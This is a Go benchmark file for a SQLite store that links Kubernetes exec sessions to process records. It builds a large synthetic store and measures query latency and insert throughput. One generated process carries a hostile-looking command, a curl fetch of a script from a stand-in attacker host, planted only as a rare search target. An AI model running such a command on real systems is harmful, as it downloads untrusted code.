package sqlite

import (
	"context"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"testing"
	"time"

	"github.com/execid/correlator/pkg/join"
	"github.com/execid/correlator/pkg/store"
	"github.com/execid/correlator/pkg/vocab"
	"github.com/rs/zerolog"
)

// The query benchmarks' store: STORE_BENCH_PROCESSES processes (default
// 1,000,000), one session per 20 processes, spread over 30 days, 200 users
// in 20 teams, 2,000 pods in 50 namespaces.
const (
	benchProcsPerSession = 20
	benchDays            = 30
	benchUsers           = 200
	benchTeams           = 20
	benchNamespaces      = 50
	benchPods            = 2000
)

type benchData struct {
	store    *Store
	sessions int
	t0       time.Time
	size     float64 // MiB on disk
}

func benchProcesses(b *testing.B) int {
	n := 1_000_000
	if v := os.Getenv("STORE_BENCH_PROCESSES"); v != "" {
		var err error
		if n, err = strconv.Atoi(v); err != nil || n < benchProcsPerSession {
			b.Fatalf("STORE_BENCH_PROCESSES=%q: need a number >= %d", v, benchProcsPerSession)
		}
	}
	return n
}

func benchSession(i int, t0 time.Time, span time.Duration, n int) join.Session {
	user := i % benchUsers
	pod := i % benchPods
	ss := session(fmt.Sprintf("%08x-bench-4000-8000-%012x", i, i), fmt.Sprintf("user-%d", user), 0)
	ss.User.Groups = []string{"system:authenticated", fmt.Sprintf("team-%d", user%benchTeams)}
	if i%1000 == 0 {
		ss.User.Groups = append(ss.User.Groups, "breakglass") // a rare group
	}
	ss.Namespace = fmt.Sprintf("ns-%d", pod%benchNamespaces)
	ss.Pod = fmt.Sprintf("pod-%d", pod)
	ss.Command = []string{"/bin/sh", "-c", fmt.Sprintf("cat /var/log/app-%d.log | tail -n 100", i%97)}
	ss.RequestReceivedTimestamp = t0.Add(span * time.Duration(i) / time.Duration(n))
	ss.EndTimestamp = ss.RequestReceivedTimestamp.Add(5 * time.Minute)
	return ss
}

// benchArgv numbers the log file process j of session i tails: one of 97
// (each session its own), or with STORE_BENCH_ARGVS=0 one per process
// (the commands table's worst case: as many lines as processes).
func benchArgv(unique bool, i, j int) int {
	if unique {
		return i*benchProcsPerSession + j
	}
	return i % 97
}

// buildBenchStore generates the store with big transactions, writing rows
// in time order as an agent would.
func buildBenchStore(b *testing.B) *benchData {
	procs := benchProcesses(b)
	sessions := procs / benchProcsPerSession
	path := filepath.Join(b.TempDir(), "bench.db")
	s, err := Open(path, Config{}, zerolog.Nop())
	if err != nil {
		b.Fatal(err)
	}
	b.Cleanup(func() { s.Close() })
	t0 := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	span := benchDays * 24 * time.Hour
	start := time.Now()
	const chunk = 1000 // sessions per transaction: 20,000 processes
	unique := os.Getenv("STORE_BENCH_ARGVS") == "0"
	for lo := 0; lo < sessions; lo += chunk {
		var batch store.Batch
		for i := lo; i < min(lo+chunk, sessions); i++ {
			ss := benchSession(i, t0, span, sessions)
			batch.Sessions = append(batch.Sessions, ss)
			for j := range benchProcsPerSession {
				p := process(fmt.Sprintf("%d:%d", 100000+i*benchProcsPerSession+j, ss.RequestReceivedTimestamp.UnixNano()+int64(j)), ss.AuditID, 0)
				p.Start = ss.RequestReceivedTimestamp.Add(time.Duration(j) * 100 * time.Millisecond)
				p.Namespace, p.Pod = ss.Namespace, ss.Pod
				p.PID, p.PPID = uint32(100000+i*benchProcsPerSession+j), uint32(100000+i*benchProcsPerSession+j-1)
				p.Argv = []string{"tail", "-n", "100", fmt.Sprintf("/var/log/app-%d.log", benchArgv(unique, i, j))}
				if i == sessions/2 && j == 0 {
					p.Argv = []string{"curl", "-s", "http://evil.example/run.sh"} // the command BenchmarkQueryRareCommand finds
				}
				if j > 0 {
					p.Attribution = vocab.AttributionInherited
					p.ParentProcessID = batch.Processes[len(batch.Processes)-1].ProcessID
				}
				p.Exit, p.ExitCode = p.Start.Add(time.Second), ptr(0)
				batch.Processes = append(batch.Processes, p)
			}
		}
		if err := s.Write(context.Background(), batch); err != nil {
			b.Fatal(err)
		}
	}
	if _, err := s.w.Exec("PRAGMA wal_checkpoint(TRUNCATE)"); err != nil {
		b.Fatal(err)
	}
	st, err := os.Stat(path)
	if err != nil {
		b.Fatal(err)
	}
	el := time.Since(start)
	size := float64(st.Size()) / (1 << 20)
	b.Logf("built %d sessions and %d processes in %s (%.0f rows/s); %.1f MiB on disk",
		sessions, procs, el.Round(time.Millisecond), float64(sessions+procs)/el.Seconds(), size)
	return &benchData{store: s, sessions: sessions, t0: t0, size: size}
}

// BenchmarkQuery measures query latency on one generated store, reporting
// p50 and p99 in milliseconds. The store is built once per run.
func BenchmarkQuery(b *testing.B) {
	d := buildBenchStore(b)
	s, ctx := d.store, context.Background()
	day := func(rng *rand.Rand) time.Time {
		return d.t0.Add(time.Duration(rng.IntN(benchDays)) * 24 * time.Hour)
	}
	queries := []benchQuery{
		{"SessionByID", func(rng *rand.Rand) (int, error) {
			i := rng.IntN(d.sessions)
			sd, err := s.GetSession(ctx, fmt.Sprintf("%08x-bench-4000-8000-%012x", i, i))
			return len(sd.Processes), err
		}},
		{"SessionsByUserDay", func(rng *rand.Rand) (int, error) {
			since := day(rng)
			page, _, err := s.ListSessions(ctx, store.SessionFilter{User: fmt.Sprintf("user-%d", rng.IntN(benchUsers)),
				Since: since, Until: since.Add(24 * time.Hour)})
			return len(page), err
		}},
		{"ProcessesByPod", func(rng *rand.Rand) (int, error) {
			page, _, err := s.ListProcesses(ctx, store.ProcessFilter{Pod: fmt.Sprintf("pod-%d", rng.IntN(benchPods))})
			return len(page), err
		}},
		{"ProcessesByPodDay", func(rng *rand.Rand) (int, error) {
			since := day(rng)
			page, _, err := s.ListProcesses(ctx, store.ProcessFilter{Pod: fmt.Sprintf("pod-%d", rng.IntN(benchPods)),
				Since: since, Until: since.Add(24 * time.Hour)})
			return len(page), err
		}},
		{"SessionsNewestPage", func(rng *rand.Rand) (int, error) {
			page, _, err := s.ListSessions(ctx, store.SessionFilter{})
			return len(page), err
		}},
		{"SessionsByCommand", func(rng *rand.Rand) (int, error) {
			page, _, err := s.ListSessions(ctx, store.SessionFilter{Command: fmt.Sprintf("app-%d.log", rng.IntN(97)), Limit: 50})
			return len(page), err
		}},
		{"ProcessesByUser", func(rng *rand.Rand) (int, error) {
			page, _, err := s.ListProcesses(ctx, store.ProcessFilter{User: fmt.Sprintf("user-%d", rng.IntN(benchUsers))})
			return len(page), err
		}},
		{"ProcessesByTeam", func(rng *rand.Rand) (int, error) {
			page, _, err := s.ListProcesses(ctx, store.ProcessFilter{Group: fmt.Sprintf("team-%d", rng.IntN(benchTeams))})
			return len(page), err
		}},
		// The group filter, through the session_groups side table (what
		// ListSessions does) and through JSON1 json_each, for comparison.
		{"SessionsByRareGroup", func(rng *rand.Rand) (int, error) {
			page, _, err := s.ListSessions(ctx, store.SessionFilter{Group: "breakglass"})
			return len(page), err
		}},
		{"SessionsByRareGroupJSONEach", func(rng *rand.Rand) (int, error) {
			return countRows(s, `SELECT s.id FROM sessions s WHERE EXISTS (SELECT 1 FROM json_each(s.groups) j
				WHERE j.value = ?) ORDER BY s.request_received DESC, s.id DESC LIMIT 101`, "breakglass")
		}},
		{"SessionsByTeamDay", func(rng *rand.Rand) (int, error) {
			since := day(rng)
			page, _, err := s.ListSessions(ctx, store.SessionFilter{Group: fmt.Sprintf("team-%d", rng.IntN(benchTeams)),
				Since: since, Until: since.Add(24 * time.Hour)})
			return len(page), err
		}},
		{"SessionsByTeamDayJSONEach", func(rng *rand.Rand) (int, error) {
			since := day(rng)
			return countRows(s, `SELECT s.id FROM sessions s WHERE EXISTS (SELECT 1 FROM json_each(s.groups) j
				WHERE j.value = ?) AND s.request_received >= ? AND s.request_received < ?
				ORDER BY s.request_received DESC, s.id DESC LIMIT 101`,
				fmt.Sprintf("team-%d", rng.IntN(benchTeams)), since.UnixNano(), since.Add(24*time.Hour).UnixNano())
		}},
	}
	runBenchQueries(b, d, queries)
}

// BenchmarkQueryRareCommand is a command substring no process ran, and one
// a single process ran, on the same store: processes read the distinct
// command lines, then the part of processes_start where the matching ones
// ran; sessions, whose commands are their own column, read every session
// (a common substring, BenchmarkQuery's SessionsByCommand, stops at the
// page). Kept apart, with its own -benchtime, because one query could take
// up to a second: `go test -run '^$' -bench BenchmarkQueryRareCommand
// -benchtime 5x` (STORE_BENCH_ARGVS=0: every process its own line).
func BenchmarkQueryRareCommand(b *testing.B) {
	d := buildBenchStore(b)
	s, ctx := d.store, context.Background()
	runBenchQueries(b, d, []benchQuery{
		{"Sessions", func(*rand.Rand) (int, error) {
			page, _, err := s.ListSessions(ctx, store.SessionFilter{Command: "evil.sh", Limit: 50})
			return len(page), err
		}},
		{"Processes", func(*rand.Rand) (int, error) {
			page, _, err := s.ListProcesses(ctx, store.ProcessFilter{Command: "evil.sh", Limit: 50})
			return len(page), err
		}},
		{"ProcessesRanOnce", func(*rand.Rand) (int, error) {
			page, _, err := s.ListProcesses(ctx, store.ProcessFilter{Command: "evil.example", Limit: 50})
			if err == nil && len(page) != 1 {
				err = fmt.Errorf("found %d processes running evil.example, want 1", len(page))
			}
			return len(page), err
		}},
	})
}

// benchQuery is one query a benchmark times; run returns the rows it got.
type benchQuery struct {
	name string
	run  func(rng *rand.Rand) (int, error)
}

// runBenchQueries times each query b.N times and reports p50 and p99.
func runBenchQueries(b *testing.B, d *benchData, queries []benchQuery) {
	runBenchQueriesAfter(b, d, queries, nil)
}

// runBenchQueriesAfter is runBenchQueries with before, when set, run
// untimed before each query.
func runBenchQueriesAfter(b *testing.B, d *benchData, queries []benchQuery, before func(i int)) {
	for _, q := range queries {
		b.Run(q.name, func(b *testing.B) {
			rng := rand.New(rand.NewPCG(1, uint64(b.N)))
			lat := make([]time.Duration, 0, b.N)
			rows := 0
			b.ResetTimer()
			for i := range b.N {
				if before != nil {
					b.StopTimer()
					before(i)
					b.StartTimer()
				}
				t := time.Now()
				n, err := q.run(rng)
				lat = append(lat, time.Since(t))
				if err != nil {
					b.Fatal(err)
				}
				rows += n
			}
			b.StopTimer()
			slices.Sort(lat)
			pct := func(p float64) float64 { return percentileMS(lat, p) }
			b.ReportMetric(pct(0.50), "p50-ms")
			b.ReportMetric(pct(0.99), "p99-ms")
			b.ReportMetric(float64(rows)/float64(b.N), "rows/op")
			b.ReportMetric(d.size, "store-MiB")
		})
	}
}

// percentileMS is the p-th quantile of sorted latencies, in ms.
func percentileMS(sorted []time.Duration, p float64) float64 {
	return float64(sorted[int(p*float64(len(sorted)-1))].Microseconds()) / 1000
}

func countRows(s *Store, q string, args ...any) (int, error) {
	rows, err := s.r.Query(q, args...)
	if err != nil {
		return 0, err
	}
	defer rows.Close()
	n := 0
	for rows.Next() {
		n++
	}
	return n, rows.Err()
}

// BenchmarkWriterInsert measures insert throughput through the Writer:
// each op adds one batch of 1,000 processes and their 50 sessions.
func BenchmarkWriterInsert(b *testing.B) {
	s, err := Open(filepath.Join(b.TempDir(), "insert.db"), Config{}, zerolog.Nop())
	if err != nil {
		b.Fatal(err)
	}
	defer s.Close()
	w := store.NewWriter(s, 1000, 100*time.Millisecond)
	t0 := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	ctx := context.Background()
	const perOp = 1000
	rows := 0
	b.ResetTimer()
	for op := range b.N {
		var batch store.Batch
		for k := range perOp / benchProcsPerSession {
			i := op*perOp/benchProcsPerSession + k
			ss := benchSession(i, t0, time.Hour, 1000)
			batch.Sessions = append(batch.Sessions, ss)
			for j := range benchProcsPerSession {
				p := process(fmt.Sprintf("%d:%d", i, j), ss.AuditID, 0)
				p.Start, p.Pod, p.Namespace = ss.RequestReceivedTimestamp.Add(time.Duration(j)), ss.Pod, ss.Namespace
				batch.Processes = append(batch.Processes, p)
			}
		}
		rows += batch.Len()
		if err := w.Add(ctx, batch); err != nil {
			b.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		b.Fatal(err)
	}
	b.StopTimer()
	b.ReportMetric(float64(rows)/b.Elapsed().Seconds(), "rows/s")
	b.ReportMetric(float64(perOp)/(b.Elapsed().Seconds()/float64(b.N)), "processes/s")
}

// BenchmarkProcessWrite is the agent's write path for a session's
// processes, as `correlator run` batches them: rows of an in-session exec
// of /bin/true (attributed, exited), 150 a transaction (the rate of 1,500
// execs/s at a 100 ms commit gap; STORE_BENCH_PER_TX sets another), into a
// store that holds STORE_BENCH_PREFILL processes already (100,000). One op
// is one process.
func BenchmarkProcessWrite(b *testing.B) {
	s, ss, t0 := openSessionBench(b)
	ctx := context.Background()
	var err error
	// STORE_BENCH_ARGVS: how many distinct argvs the processes run (1,
	// /bin/true; 0: each its own, the commands table's worst case).
	argvs := 1
	if v := os.Getenv("STORE_BENCH_ARGVS"); v != "" {
		if argvs, err = strconv.Atoi(v); err != nil || argvs < 0 {
			b.Fatalf("STORE_BENCH_ARGVS=%q: need a number >= 0", v)
		}
	}
	mk := func(i int) join.Process {
		p := benchSessionProcess(ss, t0, i)
		p.Exit, p.ExitCode = p.Start.Add(time.Millisecond), ptr(0)
		if argvs != 1 {
			n := i
			if argvs > 0 {
				n = i % argvs
			}
			p.Filename, p.Argv = "/bin/cat", []string{"cat", "/var/log/app-" + strconv.Itoa(n) + ".log"}
		}
		return p
	}
	prefill := 100_000
	if v := os.Getenv("STORE_BENCH_PREFILL"); v != "" {
		if prefill, err = strconv.Atoi(v); err != nil {
			b.Fatalf("STORE_BENCH_PREFILL=%q: %v", v, err)
		}
	}
	perTx := 150
	if v := os.Getenv("STORE_BENCH_PER_TX"); v != "" {
		if perTx, err = strconv.Atoi(v); err != nil || perTx < 1 {
			b.Fatalf("STORE_BENCH_PER_TX=%q: need a number >= 1", v)
		}
	}
	next := 0
	write := func(n int) {
		batch := store.Batch{Processes: make([]join.Process, 0, perTx)}
		for range n {
			batch.Processes = append(batch.Processes, mk(next))
			next++
		}
		if err := s.Write(ctx, batch); err != nil {
			b.Fatal(err)
		}
	}
	for next < prefill {
		write(min(5000, prefill-next))
	}
	b.ResetTimer()
	for done := 0; done < b.N; done += perTx {
		write(min(perTx, b.N-done))
	}
	b.ReportMetric(float64(b.Elapsed().Microseconds())/float64(b.N), "µs/process")
}

// openSessionBench opens a fresh store holding one session, ss, whose
// processes benchSessionProcess makes from t0; the store closes with b.
func openSessionBench(b *testing.B) (*Store, join.Session, time.Time) {
	s, err := Open(filepath.Join(b.TempDir(), "write.db"), Config{}, zerolog.Nop())
	if err != nil {
		b.Fatal(err)
	}
	b.Cleanup(func() { s.Close() })
	t0 := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	ss := benchSession(1, t0, time.Hour, 1)
	if err := s.Write(context.Background(), store.Batch{Sessions: []join.Session{ss}}); err != nil {
		b.Fatal(err)
	}
	return s, ss, t0
}

// benchSessionProcess is the i-th /bin/true of session ss, running.
func benchSessionProcess(ss join.Session, t0 time.Time, i int) join.Process {
	p := process(fmt.Sprintf("%d-%d", 1000+i%4000000, 5000+i), ss.AuditID, 0)
	p.Namespace, p.Pod, p.Container = ss.Namespace, ss.Pod, "app"
	p.ContainerID, p.PodUID = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef", "6f1c1a0e-0d0b-4c57-9b55-0a3c2d1e4f5a"
	p.PID, p.PPID, p.Filename, p.Argv = uint32(1000+i), 999, "/bin/true", []string{"/bin/true"}
	p.Attribution, p.Source, p.SessionRootID, p.ParentProcessID = vocab.AttributionInherited, vocab.SourceInherited, "999-1", "999-1"
	p.Start = t0.Add(time.Duration(i) * time.Millisecond)
	p.ExecTime = p.Start
	return p
}
